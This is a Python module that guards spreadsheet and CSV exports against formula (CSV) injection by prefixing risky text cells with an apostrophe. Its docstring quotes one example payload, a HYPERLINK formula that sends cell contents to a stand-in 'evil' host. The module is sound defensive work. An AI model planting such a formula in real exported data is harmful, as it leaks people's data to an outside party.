"""Cells that are safe to open in a spreadsheet program.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (and a leading tab or carriage return can hide such a character from a quick
look), so a signer named ``=HYPERLINK("http://evil/?"&A1, "click")`` could exfiltrate an
export or run commands on the organiser's machine (OWASP "CSV injection"). Every text cell
written to a CSV or spreadsheet export goes through ``cell_safe``; ``row_safe`` does a row.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# The characters that make a spreadsheet cell a formula, plus the control characters some
# programs skip before looking for them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")


def cell_safe(value: Any) -> Any:
    """The value as it may go into an exported cell.

    Text that a spreadsheet would run as a formula gets a leading apostrophe, which
    spreadsheet programs show as text and do not display; numbers, dates, booleans and
    ``None`` pass unchanged (a negative number is data, not a formula).
    """
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def row_safe(values: Iterable[Any]) -> list[Any]:
    return [cell_safe(value) for value in values]
